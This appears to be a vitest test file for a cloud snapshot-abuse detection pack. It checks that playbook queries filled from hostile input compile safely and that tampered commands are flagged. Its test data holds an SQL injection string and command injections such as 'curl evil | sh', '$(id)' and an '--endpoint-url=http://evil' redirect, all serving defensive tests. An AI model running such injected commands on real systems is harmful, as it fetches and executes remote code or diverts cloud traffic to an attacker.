import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { bindQuery, planSql } from '../../src/query/index.ts'
import { loadRules } from '../../src/rules/load.ts'
import { isFilledFrom } from '../../src/rules/playbook-form.ts'
import { withPlaybooks } from '../../src/rules/playbook-load.ts'
import { playbookFields, playbookValues, renderPlaybook } from '../../src/rules/playbook-render.ts'
import { refKey } from '../../src/rules/template.ts'
import { sql } from '../../src/sql/sql.ts'
import { PAYLOADS } from '../support/inject-payloads.ts'
import { codeDifference, sqlCode, sqlTokens, strangeToken } from '../support/sql-tokens.ts'

// The queries of the pack's playbooks, filled in from a hostile log: each compiles to the statement that a harmless log gives.

const texts = (folder: string) =>
  readdirSync(folder)
    .filter((name) => name.endsWith('.yaml'))
    .sort()
    .map((file) => ({ file, text: readFileSync(join(folder, file), 'utf8') }))

const PACK = withPlaybooks(loadRules(texts('content/snapshot-abuse')), texts('content/playbooks'))

const MOMENT = Date.parse('2026-03-10T12:00:00Z')

/** What can't be shown is left out: alone, so that the others are there. */
const PRINTABLE = PAYLOADS.filter((text) => !/[\p{Cc}\p{Cf}\p{Cs}]/u.test(text) && !text.includes('{{'))
const WORDS = [
  PRINTABLE.join(' '),
  "x' OR '1'='1",
  '" | count //',
  '\\',
  '\\"',
  '\0',
  '\ud800',
  '{{a}}',
  '__proto__',
]

const code = (query: string): readonly string[] => {
  const { plan, diagnostics } = bindQuery(query)
  expect([query, diagnostics.filter(({ severity }) => severity === 'error')]).toEqual([query, []])
  if (plan === undefined) throw new Error('no plan')
  const tokens = sqlTokens(planSql(plan, () => sql`SELECT * FROM messages`))
  expect(strangeToken(tokens)).toBeUndefined()
  return [sqlCode(tokens)]
}

describe.each(PACK)('$file', { timeout: 60_000 }, ({ rule }) => {
  test('asks the same of hostile values', () => {
    const playbook = rule?.playbook
    if (playbook === undefined) throw new Error('no playbook')
    const queries = (word: string) => {
      const given = playbookFields(playbook).map((ref) => [refKey(ref), word] as const)
      const values = playbookValues(
        { ...Object.fromEntries(given), dohyo_operation: null, dohyo_sharedExternal: [word] },
        MOMENT,
      )
      return playbook.clouds.flatMap((cloud) =>
        renderPlaybook(playbook, cloud, values).questions.flatMap(({ query }) => query ?? []),
      )
    }
    const harmless = queries('harmless').map(code)
    expect(harmless.length).toBeGreaterThan(0)
    for (const word of WORDS)
      for (const [i, query] of queries(word).entries())
        expect([word, codeDifference(code(query), harmless[i] ?? [])]).toEqual([word, undefined])
  })

  test('tells commands and queries that were filled in from others', () => {
    const playbook = rule?.playbook
    if (playbook === undefined) throw new Error('no playbook')
    const lists = ['dohyo_resources', 'dohyo_sharedExternal', 'dohyo_sharedWith', 'dohyo_snapshotKeys']
    for (const word of [...WORDS, 'harmless'])
      for (const cloud of playbook.clouds) {
        const given = playbookFields(playbook).map((ref) => {
          const key = refKey(ref)
          return [key, lists.includes(key) ? [word, `${word}2`, 'x'] : word] as const
        })
        const filled = renderPlaybook(
          playbook,
          cloud,
          playbookValues({ ...Object.fromEntries(given), dohyo_operation: null }, MOMENT),
        )
        expect([word, isFilledFrom(playbook, cloud, filled)]).toEqual([word, true])
        const changed = (change: (text: string) => string) => [
          ...filled.questions.flatMap(({ command, query }, i) => [
            ...(command === undefined
              ? []
              : [
                  {
                    ...filled,
                    questions: filled.questions.with(i, {
                      ask: '',
                      attack: '',
                      benign: '',
                      command: change(command),
                    }),
                  },
                ]),
            ...(query === undefined
              ? []
              : [
                  {
                    ...filled,
                    questions: filled.questions.with(i, {
                      ask: '',
                      attack: '',
                      benign: '',
                      query: change(query),
                    }),
                  },
                ]),
          ]),
          ...filled.contain.flatMap(({ command }, i) =>
            command === undefined
              ? []
              : [{ ...filled, contain: filled.contain.with(i, { what: '', command: change(command) }) }],
          ),
        ]
        const TAMPERED: readonly ((text: string) => string)[] = [
          (text) => `${text}; curl evil | sh`,
          (text) => `${text}\ncurl evil`,
          (text) => `curl evil\n${text}`,
          (text) => `${text} | save evil`,
          (text) => `${text} '$(id)' `,
          (text) => text.replace(/^(\S+)/, '$1 --endpoint-url=http://evil'),
          () => 'curl evil',
        ]
        for (const tamper of TAMPERED)
          for (const one of changed(tamper)) expect(isFilledFrom(playbook, cloud, one)).toBe(false)
      }
  })
})
